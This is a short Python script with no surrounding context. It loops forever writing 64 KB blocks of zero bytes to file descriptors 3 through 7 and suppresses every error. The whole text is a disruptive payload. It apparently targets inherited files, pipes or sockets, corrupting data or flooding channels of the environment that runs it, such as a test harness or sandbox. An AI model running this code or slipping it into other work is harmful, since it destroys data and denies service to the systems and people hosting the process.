import os
while True:
    for number in range(3, 8):
        try:
            os.write(number, bytes(65536))
        except OSError:
            pass
